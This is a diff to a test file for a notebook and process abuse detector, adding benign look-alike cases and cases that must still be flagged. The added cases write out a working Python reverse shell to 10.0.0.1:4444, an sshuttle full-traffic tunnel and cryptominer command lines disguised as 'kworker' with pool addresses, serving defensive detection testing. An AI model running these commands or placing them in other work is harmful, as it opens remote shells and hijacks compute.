@@ -74,6 +74,13 @@ FIXED_CELLS = [
     ("a film's data named goldeneye.py", "!python goldeneye.py --film 1995 --plot"),
     # remote-known-server: an npm script named start-host
     ("npm run start-host", "!npm run start-host"),
+    # proxy-known-tool took the word sshuttle anywhere: installing it is acquire-tunnel-tool's
+    # warning, looking it up nothing
+    ("pip show sshuttle", "!pip show sshuttle\n!pip uninstall -y sshuttle"),
+    # remote-reverse-shell: a program's output sent to the course's collector, no shell
+    ("print() to a socket in python -c",
+     "!python -c \"import socket,os; s=socket.socket(); s.connect(('127.0.0.1',9000)); "
+     "os.dup2(s.fileno(),1); print('hello')\""),
     # torrent-aria2-bittorrent: a downloader alias's BitTorrent options on an HTTPS model
     ("aria2c alias with --seed-time=0",
      "!aria2c --seed-time=0 -c -x 16 -s 16 -k 1M https://huggingface.co/TheBloke/Llama-2-7B-GGUF"
@@ -115,6 +122,15 @@ FIXED_PROCESSES = [
          "python3", "predict.py", "--url", "http://127.0.0.1:5000/invocations", "--run-id",
          "1f3a9c2b7d8e4f5a6b7c8d9e0f1a2b3c"],
          sockets=[Socket("tcp", "127.0.0.1", 40002, "127.0.0.1", 5000, "ESTABLISHED")])),
+    # mining-miner-options: a coin or an algorithm named by a program that fetches from an API
+    ("a price tracker's --coin ethereum",
+     Process(pid=18, name="python3", cmdline=["python3", "fetch_prices.py", "--coin", "ethereum",
+                                              "--days", "365", "--out", "eth.csv"],
+             sockets=connected("104.16.1.1", 443))),
+    ("a profitability calculator's --algo ethash",
+     Process(pid=19, name="python3", cmdline=["python3", "profitability.py", "--algo", "ethash",
+                                              "--hashrate", "60"],
+             sockets=connected("104.16.1.1", 443))),
     # a deepfake detector training on GPU with FaceForensics++' FaceSwap frames open (h5py)
     ("a deepfake detector's training frames",
      Process(pid=14, name="python3", cmdline=["python3", "train_detector.py", "--method",
@@ -138,6 +154,12 @@ STILL_RECOGNISED = [
     ("tor asked for its version (no exception but cloudflared's and ngrok's)", "!tor --version",
      "proxy-known-tool"),
     ("nmap scanning", "!nmap -V 127.0.0.1", "scan-known-tool"),
+    ("sshuttle's VPN", "!sshuttle -r me@vps.example.org 0/0", "proxy-known-tool"),
+    ("sshuttle installed (a warning)", "!pip install sshuttle", "acquire-tunnel-tool"),
+    ("a Python reverse shell on a python -c line",
+     "!python3 -c \"import socket,os; s=socket.socket(); s.connect(('10.0.0.1',4444)); "
+     "[os.dup2(s.fileno(),f) for f in (0,1,2)]; os.system('bash -i')\"",
+     "remote-reverse-shell"),
     ("hammer.py at a host", "!python3 hammer.py -s 127.0.0.1 -p 80 -t 135", "dos-known-tool"),
     ("hulk.py at a URL", "!python hulk.py http://127.0.0.1:8080/", "dos-known-tool"),
     ("slowloris.py, whatever its options", "!python3 -u slowloris.py 127.0.0.1 -s 500",
@@ -177,6 +199,17 @@ def test_a_miner_logging_in_with_a_wallet_is_still_recognised(wallet):
                                                      wallet, "-p", "x"],
                     sockets=[Socket("tcp", "10.0.0.2", 40003, "10.2.2.2", 3333, "ESTABLISHED")])
     assert "mining-wallet-login" in process_detections(miner)
+
+
+@pytest.mark.parametrize("argv", [
+    ["./kworker", "--coin", "monero", "-o", "stratum+ssl://pool.example.net:443", "-u", "me"],
+    ["./lm", "--algo", "ETCHASH", "--pool", "etc.pool.example:1010", "--user", "me.rig1"],
+    ["./kworker", "-a", "kawpow", "-o", "stratum1+tcp://0xabc@10.2.2.2:4444"],
+], ids=["--coin with a pool", "--algo with a pool", "--algo with a wallet@pool"])
+def test_a_miner_naming_its_coin_and_pool_is_still_recognised(argv):
+    miner = Process(pid=25, name="kworker", cmdline=argv,
+                    sockets=[Socket("tcp", "10.0.0.2", 40004, "10.2.2.2", 443, "ESTABLISHED")])
+    assert "mining-miner-options" in process_detections(miner)
 
 
 def test_a_swap_model_kept_open_on_a_busy_gpu_is_still_recognised():
